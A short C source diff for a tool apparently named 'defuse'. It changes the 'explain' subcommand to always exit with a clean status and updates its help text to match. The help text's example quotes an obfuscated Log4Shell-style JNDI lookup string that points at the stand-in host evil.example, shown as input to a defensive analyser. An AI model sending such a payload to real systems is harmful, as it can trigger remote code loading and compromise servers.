@@ -46,7 +46,7 @@ const char cli_help_explain[] =
     "    --color=WHEN  auto (default), always or never.\n"
     "\n"
     "EXIT STATUS\n"
-    "    0 no finding, 1 findings, 2 an error.\n"
+    "    0 explained (whether or not a lookup would fire), 2 an error.\n"
     "\n"
     "EXAMPLES\n"
     "    defuse explain '${${lower:j}ndi:ldap://evil.example/a}'\n"
@@ -383,7 +383,7 @@ int cmd_explain(int argc, char **argv) {
     } else {
         print_human(payload, len, &x, colour);
     }
-    status = json_array_size(x.findings) ? EXIT_FOUND : EXIT_CLEAN;
+    status = EXIT_CLEAN; /* an explanation, not a verdict: see --help */
 out:
     if (fflush(stdout) != 0) {
         fprintf(stderr, "defuse explain: write error: %s\n", strerror(errno));
